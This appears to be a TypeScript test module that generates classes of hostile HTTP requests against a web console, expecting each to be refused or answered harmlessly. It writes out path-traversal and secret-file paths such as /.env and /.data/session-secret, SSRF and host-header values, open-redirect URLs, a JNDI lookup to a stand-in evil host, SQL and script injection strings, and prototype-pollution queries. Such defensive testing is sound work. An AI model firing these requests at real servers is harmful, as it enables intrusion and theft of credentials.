// Malicious requests by class, generated: the lists of payloads are crossed with the places they can be put. Nothing here knows what the console answers.
import { endpointNames, endpoints } from '@/lib/contract/endpoints';
import type { Endpoint } from '@/lib/contract/endpoint-row';
import {
  ACTS,
  AUTHORITIES,
  BODIES,
  BREAKS,
  DOTS,
  EVIL,
  INTERNAL,
  NEXTS,
  ORIGINS,
  SEALS,
  VALUES,
} from './attack-payloads';

export interface Attack {
  name: string;
  method: string;
  /** As it goes over the wire: not normalised. */
  path: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** `refused`: must be answered by 4xx. `harmless`: any answer but a failure of the server; it must still reveal nothing. */
  must: 'refused' | 'harmless';
}

const ID = `0x${'a'.repeat(64)}`;
const get = (path: string, must: Attack['must'], headers: Record<string, string> = {}): Attack => ({
  name: `${path.slice(0, 90)} ${JSON.stringify(headers).slice(0, 60)}`,
  method: 'GET',
  path,
  headers,
  must,
});

/** Pages by a path to which the limits of pages would not apply. */
const unresolved = ['/api', '/api/index', '/healthz', '/_next/static', '/metrics'].flatMap((folder) =>
  ['..', '%2e%2e', '.%2E', 'x/../..'].map((dots) => get(`${folder}/${dots}/connect`, 'refused')),
);

const traversal = DOTS.flatMap((dots) => [
  get(`/api/index/dags/${dots}/tokens`, 'refused'),
  get(`/api/index/tools/${dots}`, 'refused'),
  get(`/api/index/tools/a%2f${dots}%2ftokens`, 'refused'),
  get(`/api/index/${dots}/onboarding/keys`, 'refused'),
  get(`/_next/static/${dots}/server/app/page.js`, 'refused'),
]);

const ssrf = [
  ...AUTHORITIES.map((path) => get(`/api/index${path}`, 'refused')),
  ...AUTHORITIES.map((path) =>
    get(`/_next/image?url=${encodeURIComponent(`http:/${path}`)}&w=64&q=75`, 'refused'),
  ),
  ...['host', 'x-forwarded-host', 'forwarded', 'x-original-url', 'x-rewrite-url', 'x-forwarded-server'].map(
    (name) => get('/api/index/leaders', 'harmless', { [name]: name === 'forwarded' ? `host=${EVIL}` : EVIL }),
  ),
  ...[`https://${EVIL}`, EVIL, '__proto__', 'constructor', 'toString', '', 'index\r\n'].map(
    (network): Attack => ({
      name: `network ${network}`,
      method: 'POST',
      path: '/api/session',
      body: JSON.stringify({ key: 'k_9.another-secret', network: `${network}x` }),
      must: 'refused',
    }),
  ),
];

const redirects = [
  ...NEXTS.map((next) => get(`/connect?next=${encodeURIComponent(next)}`, 'harmless')),
  ...[
    `//${EVIL}/`,
    `//${EVIL}/%2f..`,
    `///${EVIL}//`,
    `/%5c${EVIL}/`,
    `/%2f%2f${EVIL}/`,
    `http://${EVIL}/`,
    `http://${EVIL}//x`,
  ].map((path) => get(path, 'harmless')),
];

const injection = BREAKS.flatMap((text) => [
  get(`/api/index/events?tx_digest=${text}`, 'refused'),
  get(`/api/index/leaders?leader_address=${text}`, 'refused'),
  get(`/api/index/dags/${text}`, 'refused'),
  get(`/api/events/stream?last_event_id=${text}`, 'refused'),
  get(`/api/events/stream?kinds=${text}`, 'refused'),
  get(`/tools?fqn=${text}`, 'harmless'),
]);
const requestIds = [
  'a'.repeat(500),
  '{"a":1}',
  '<script>',
  "' or 1=1",
  '${jndi:ldap://evil.example}',
  '../../etc',
].map((id) => get('/api/index/nothing', 'refused', { 'x-request-id': id }));

const origins = ACTS.flatMap((act) =>
  ORIGINS.map((origin): Attack => ({
    name: `POST ${act || '/'} from ${origin}`,
    method: 'POST',
    path: `/api/session${act}`,
    headers: { origin },
    body: '{"connection":"c1","use":"operator","confirm":"k_1"}',
    must: 'refused',
  })),
);

const bodies = BODIES.flatMap((body, place) =>
  ACTS.filter((_, act) => act === place % ACTS.length || act === (place * 2 + 1) % ACTS.length).map(
    (act): Attack => ({
      name: `POST ${act || '/'} ${body.toString('utf8').slice(0, 60)}`,
      method: 'POST',
      path: `/api/session${act}`,
      body,
      must: act === '/demo' ? 'harmless' : 'refused',
    }),
  ),
);
const types = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/jsonp',
  'text/html',
  '',
].map((type): Attack => ({
  name: `a body of type ${type}`,
  method: 'POST',
  path: '/api/session',
  headers: { 'content-type': type },
  body: '{"key":"k_1.aaaaaaaa"}',
  must: 'refused',
}));

const methods = ['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND', 'TRACE'].flatMap((method) =>
  ['/api/session', '/api/session/claim', '/api/index/leaders', '/api/index/tokens', '/api/events/stream'].map(
    (path): Attack => ({
      name: `${method} ${path}`,
      method,
      path,
      must: method === 'OPTIONS' ? 'harmless' : 'refused',
    }),
  ),
);

const PATH_PARAMS = new Map([
  ['skill_id', '7'],
  ['fqn', 'a.b%401'],
]);
const filters = endpointNames.flatMap((name, place) => {
  const row: Endpoint = endpoints[name];
  const names = Object.keys(row.query.shape);
  if (row.method !== 'GET' || names.length === 0 || row.responseType === 'stream') return [];
  const path = row.path.replaceAll(/\{(\w+)\}/g, (_, key: string) => PATH_PARAMS.get(key) ?? ID);
  return names.map((key, which) =>
    get(
      `/api/index${path}?${key}=${encodeURIComponent(VALUES[(place * 3 + which) % VALUES.length] ?? '')}`,
      'harmless',
    ),
  );
});
const pollution = [
  '__proto__[a]=1',
  '__proto__.a=1',
  'constructor[prototype][a]=1',
  'toString=1',
  'hasOwnProperty=1',
  'page_size=1&page_size=2',
  'x-api-key=evil',
].map((query) => get(`/api/index/leaders?${query}`, 'harmless'));

/** In a cookie's name: replaced by the scope of the target's cookies. */
export const SCOPE = '{scope}';
/** The form of a connection's id. */
const CONNECTION_ID = 'A'.repeat(22);
const cookies = SEALS.flatMap((seal) => [
  get('/api/index/leaders', 'refused', { cookie: `dagscope-${SCOPE}-key-${CONNECTION_ID}=${seal}` }),
  get('/api/events/stream', 'refused', { cookie: `dagscope-${SCOPE}-key-${CONNECTION_ID}=${seal}` }),
  get('/api/index/leaders', 'refused', {
    cookie: `__Host-dagscope-${SCOPE}-key-${CONNECTION_ID}=${seal}`,
    'x-forwarded-proto': 'https',
  }),
]);

const sources = [
  '/.env',
  '/.env.local',
  '/.git/config',
  '/package.json',
  '/next.config.mjs',
  '/.next/BUILD_ID',
  '/_next/server/app/page.js',
  '/lib/relay/env.ts',
  '/_next/static/chunks/main.js.map',
  '/__nextjs_original-stack-frame',
  '/__nextjs_source-map',
  '/_next/webpack-hmr',
  '/_next/image?url=%2Ficon.svg&w=64&q=75',
  '/server.js',
  '/.data/session-secret',
  '/api',
  '/api/nothing',
].map((path) => get(path, 'refused'));

const internal = INTERNAL.flatMap((headers) =>
  ['/overview', '/connect'].map((path) => get(path, 'harmless', { ...headers, cookie: '' })),
);
const actions = ['a'.repeat(42), '$$RSC', '../x', '0'].map((action): Attack => ({
  name: `server action ${action}`,
  method: 'POST',
  path: '/connect',
  headers: { 'next-action': action, 'content-type': 'text/plain;charset=UTF-8' },
  body: '["$K1"]',
  must: 'harmless',
}));

const sizes = [
  get(`/api/index/leaders?x=${'a'.repeat(9_000)}`, 'refused'),
  get('/api/index/leaders', 'refused', { 'x-long': 'a'.repeat(20_000) }),
  get(`/api/events/stream?kinds=${'A'.repeat(12_000)}`, 'refused'),
  get(`/${'a/'.repeat(3_000)}`, 'refused'),
];

/** Every class with its attacks. */
export const ATTACKS: Readonly<Record<string, readonly Attack[]>> = {
  unresolved,
  traversal,
  ssrf,
  redirects,
  injection,
  requestIds,
  origins,
  bodies,
  types,
  methods,
  filters,
  pollution,
  cookies,
  sources,
  internal,
  actions,
  sizes,
};

/** Every so many of each class: some of every class. */
export const sampleOf = <T>(classes: Readonly<Record<string, readonly T[]>>, every: number): T[] =>
  Object.values(classes).flatMap((all) => all.filter((_, place) => place % every === 0));
